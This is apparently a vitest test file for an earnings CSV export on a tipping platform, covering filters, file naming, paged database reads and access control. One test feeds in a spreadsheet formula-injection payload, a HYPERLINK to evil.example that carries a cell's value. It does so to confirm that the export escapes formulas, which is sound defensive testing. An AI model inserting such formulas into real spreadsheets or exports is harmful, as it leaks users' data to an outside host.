import { api, type CallOptions } from '@fanlight/sdk';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { post } from '../../ledger/ledger.ts';
import { codeOf, type Person, type TestEngine } from '../../testing/index.ts';
import { createEngineWithPeople, publishPost } from '../../testing/setup.ts';
import { stopCleanly } from '../../testing/stop-cleanly.ts';
import { readAllSales } from './sales.ts';

let engine: TestEngine;
let mara: Person;
let noor: Person;

beforeEach(async () => {
  ({ engine, mara, noor } = await createEngineWithPeople({ tokens: 20_000_00 }));
});

afterEach(() => stopCleanly(engine));

const tip = (amount: number, message?: string) =>
  noor.client.call(api.tipPerformer, { params: { id: mara.id }, body: { amount, ...(message && { message }) } });

/** Reads the lines of the file, without the header. */
async function exportLines(query: CallOptions<'exportEarnings'>['query'] = {}, { client } = mara): Promise<string[]> {
  const text = await (await client.call(api.exportEarnings, { query })).text();
  const [header, ...lines] = text.replace('\uFEFF', '').trimEnd().split('\r\n');
  expect(header).toBe('"date","type","status","payer","username","title","gross","commission","net","payable","id"');
  return lines;
}

describe('the export of earnings', () => {
  it('has the earnings of the list with the same filters, latest first', async () => {
    await tip(25, 'For the next kiln.');
    const postId = await publishPost(mara, { text: 'Glaze notes', audience: 'subscribers', price: 4 });
    await noor.client.call(api.buyFeed, { params: { id: postId }, body: {} });
    const { data } = await mara.client.call(api.listEarnings);
    const toLine = (earning: (typeof data)[number]) =>
      [
        ...[earning.createdAt, earning.type, earning.status, earning.payer?.name, earning.payer?.username].map(
          (text) => `"${text}"`,
        ),
        ...[`"${earning.title}"`, earning.gross, earning.commission, earning.net],
        ...[earning.payableAt, earning._id].map((text) => `"${text}"`),
      ].join(',');
    expect(await exportLines()).toEqual(data.map(toLine));
    expect(await exportLines({ type: 'feed' })).toHaveLength(1);
    expect(await exportLines({ status: 'payable' })).toEqual([]);
    const today = engine.clock.now().toISOString().slice(0, 10);
    expect(await exportLines({ from: today, to: today })).toHaveLength(2);
    expect(await exportLines({ from: '2020-01-01', to: '2020-01-31' })).toEqual([]);
  });

  it('escapes texts of fans that a spreadsheet would execute as formulas', async () => {
    await tip(10, '=HYPERLINK("https://evil.example?"&A1,"Thanks")');
    expect((await exportLines())[0]).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""Thanks"")"`);
  });

  it('is an attachment that is named after the day', async () => {
    let disposition: string | null = null;
    await mara.client.call(api.exportEarnings, {
      onResponse: ({ headers }) => {
        disposition = headers.get('content-disposition');
      },
    });
    const today = engine.clock.now().toISOString().slice(0, 10);
    expect(disposition).toBe(`attachment; filename="earnings-${today}.csv"`);
  });

  it('is read in pages without a gap, with one statement for each page', async () => {
    const { database, ids, clock } = engine.ports;
    const nextId = () => ids.next();
    const at = clock.now();
    await database.transaction(async (tx) => {
      for (let count = 0; count < 1001; count += 1) {
        const movements = [
          { account: { ownerId: null, kind: 'gateway' as const }, amount: -100 - count },
          { account: { ownerId: mara.id, kind: 'earnings' as const }, amount: 100 + count },
        ];
        await post(tx, { id: nextId(), kind: 'tip', referenceId: nextId(), at, movements }, nextId);
      }
    });
    const statements: string[] = [];
    engine.watch.onStatement = (statement) => statements.push(statement);
    const pages: number[][] = [];
    for await (const rows of readAllSales(database.db, mara.id, {}, at)) pages.push(rows.map(({ net }) => net));
    engine.watch.onStatement = undefined;
    expect(pages.map(({ length }) => length)).toEqual([500, 500, 1]);
    expect(pages.flat()).toEqual(Array.from({ length: 1001 }, (_, index) => 1100 - index));
    expect(statements).toHaveLength(3);
  });

  it('is only for performers', async () => {
    expect(await codeOf(noor.client.call(api.exportEarnings))).toBe('FORBIDDEN');
  });
});
